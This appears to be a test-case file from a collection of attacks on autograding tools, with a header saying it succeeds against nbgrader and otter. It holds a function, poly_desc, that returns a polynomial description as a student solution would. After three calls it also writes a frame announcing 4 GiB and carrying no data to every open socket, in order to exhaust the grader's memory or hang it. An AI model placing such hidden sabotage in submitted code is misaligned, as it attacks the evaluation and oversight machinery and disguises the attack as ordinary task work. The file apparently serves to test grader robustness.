# /// case
# about = "a frame that announces four GiB, and nothing behind it"
# expect = { test_describe = "zero" }
# kind = "wire"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% describe
# whoever allocates what was announced is out of memory; whoever waits for it waits for ever
import os
import stat

_calls = []

def _sockets():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue

def poly_desc(W, b):
    _calls.append(1)
    if len(_calls) > 3:
        for number in _sockets():
            try:
                os.write(number, b"\xff\xff\xff\xff\x04")
            except OSError:
                pass
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
